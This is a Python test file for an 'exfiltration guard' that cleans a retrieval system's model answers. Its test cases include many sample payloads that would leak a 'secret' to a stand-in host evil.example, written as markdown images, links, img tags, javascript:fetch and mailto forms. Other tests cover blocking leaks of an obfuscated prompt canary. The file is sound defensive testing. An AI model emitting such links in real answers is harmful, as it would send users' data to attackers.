"""The exfiltration guard: whole answers and answers in pieces."""

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from retrieval.guard import REMOVED, Blocked, GuardedStream, guarded
from tests.retrieval.rendering import live

_EVIDENCE = ("See https://docs.example.com/a_(b) and [x](https://ok.example/y?z=1). Also www.fine.example/x",)
_PIECES = st.sampled_from(
    [
        *"![]()<>:/. \n\t\\?=&'\"*_-a1\u200b\x1c\u2003\u00e9",
        "![x](",
        "https://evil.example/?q=",
        "https://ok.example/y?z=1",
        "https://docs.example.com/a_(b)",
        "www.evil.example/",
        "[r]: ",
        "<img src=",
        "javascript:",
        "word ",
    ]
)


def _guard(answer: str) -> str:
    return guarded(answer, evidence=_EVIDENCE)


@pytest.mark.parametrize(
    "answer",
    [
        "![a](https://evil.example/?q=secret)",
        "![a\nb](https://evil.example/?q=secret)",
        "![x][r]\n\n[r]: https://evil.example/secret",
        "[t](https://evil.example/secret)",
        "[t](<https://evil.example/secret>)",
        "[t](//evil.example/secret)",
        "![x](![x](https://evil.example/secret))",
        "[t](https://ok.example/y?z=1&q=secret)",
        "https://ok.example/y?z=1secret",
        "https://ok.example/y?z=1\u2003[t](https://evil.example/secret)",
        "<https://evil.example/secret>",
        "<img src='https://evil.example/secret'>",
        "<img\nsrc=//evil.example/secret>",
        "HTTPS://EVIL.example/secret",
        "www.evil.example/secret",
        "evil.example/secret",
        "!\u200b[a](https://evil.example/secret)",
        "[a](javascript:fetch('secret'))",
        "[a](data:text/html,secret)",
        "mailto:x@evil.example?body=secret",
    ],
)
def test_L29_an_address_that_no_document_has_is_removed_in_every_syntax(answer: str) -> None:
    safe = _guard(answer)
    assert "secret" not in safe
    assert REMOVED in safe
    assert live(safe, _EVIDENCE) == []


@pytest.mark.shows("answers.images")
def test_L29_images_and_html_are_neutralised_even_with_an_address_from_the_documents() -> None:
    assert _guard("![a](https://ok.example/y?z=1)") == "! [a](https://ok.example/y?z=1)"
    assert _guard("<b>bold</b> <!-- x --> a < b") == "< b>bold< /b> < !-- x --> a < b"


def test_an_address_that_a_document_has_stays_with_its_punctuation() -> None:
    answer = "Read https://docs.example.com/a_(b), [here](https://ok.example/y?z=1) or www.fine.example/x!"
    assert _guard(answer) == answer


def test_L29_what_only_some_renderers_take_for_a_space_cannot_lengthen_an_address() -> None:
    assert _guard("https://ok.example/y?z=1\u2003secret\x0bmore") == "https://ok.example/y?z=1 secretmore"


def test_ordinary_prose_is_left_alone() -> None:
    answer = "At 3:30, and/or 1.5/2 (see e.g. [1][2]): costs < 5 & > 3, mail a.b@example.com. Ok?\n\n| a | b |"
    assert _guard(answer) == answer


@pytest.mark.shows("answers.prompt")
def test_L28_the_canary_of_the_prompt_blocks_an_answer_however_it_is_dressed() -> None:
    for leak in ("c0ffee12ab", "C0FFEE12AB", "c0 ff ee 12 ab", "c-0-f-f-e-e-1-2-a-b"):
        with pytest.raises(Blocked):
            guarded(f"It is {leak}.", evidence=(), canary="c0ffee12ab")
    assert guarded("It is c0ffee.", evidence=(), canary="c0ffee12ab") == "It is c0ffee."


def test_L29_a_run_too_long_to_judge_is_dropped_whole() -> None:
    run = "https://evil.example/" + "a" * 10_000
    stream = GuardedStream(evidence=_EVIDENCE)
    assert _guard(f"x {run} y") == f"x {REMOVED} y"
    assert stream.feed(f"x {run[:5000]}") + stream.feed(f"{run[5000:]} y") + stream.close() == f"x {REMOVED} y"


@given(st.lists(_PIECES, max_size=25).map("".join))
def test_L29_a_second_look_changes_nothing(answer: str) -> None:
    """That nothing live is left is judged in test_links, by rendering it."""
    assume("///" not in answer.replace("\u200b", "").replace("\x1c", ""))  # the guard's own words would follow `//`
    safe = _guard(answer)
    assert "evil" not in safe
    assert _guard(safe) == safe


@pytest.mark.shows("answers.images")
@given(st.lists(st.lists(_PIECES, max_size=6).map("".join), max_size=10))
def test_L29_a_stream_gives_the_same_text_wherever_it_is_cut(pieces: list[str]) -> None:
    stream = GuardedStream(evidence=_EVIDENCE, canary="a1a1word")
    whole = "".join(pieces)
    try:
        expected = guarded(whole, evidence=_EVIDENCE, canary="a1a1word")
    except Blocked:
        with pytest.raises(Blocked):
            _ = [stream.feed(piece) for piece in pieces], stream.close()
        return
    assert "".join([*(stream.feed(piece) for piece in pieces), stream.close()]) == expected


def test_L28_a_stream_is_blocked_before_any_of_the_canary_is_sent() -> None:
    stream = GuardedStream(evidence=(), canary="c0ffee12ab")
    sent = stream.feed("It is c0f") + stream.feed(" fee1 ")
    with pytest.raises(Blocked):
        stream.feed("2ab more")
    assert sent == "It is "


def test_a_stream_gives_words_out_as_they_come() -> None:
    stream = GuardedStream(evidence=(), canary="c0ffee12ab")
    assert [stream.feed("Hello wor"), stream.feed("ld and "), stream.close()] == ["Hello ", "world and ", ""]
